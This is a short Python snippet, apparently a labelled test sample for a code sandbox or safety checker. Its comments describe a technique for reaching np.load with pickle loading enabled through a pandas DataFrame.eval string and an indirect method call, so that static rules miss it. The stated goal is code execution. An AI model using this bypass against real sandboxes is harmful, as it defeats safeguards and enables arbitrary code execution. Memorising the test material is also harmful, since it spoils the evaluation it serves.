# class: pickle_like
# technique: np.load(path, allow_pickle=True) called from a DataFrame.eval string, np resolved in the snippet's own globals by a level walk (np is never used as a value in the code); the dispatch method is called as [obj.method][0](...), which is not a method-call node the dispatch rules inspect
# goal: exec
import numpy as np
import pandas as pd

path = "anyplot-escape-gadget.npy"
frame = pd.DataFrame({"x": np.arange(2)})
loaded = None
for depth in range(1, 48):
    try:
        loaded = [frame.agg][0](**{"func": "eval", "expr": "@np.load(@p, allow_pickle=True)", "level": depth,
                              "local_dict": {"p": path}})
        break
    except Exception:
        continue
df = pd.DataFrame({"x": [repr(loaded)]})
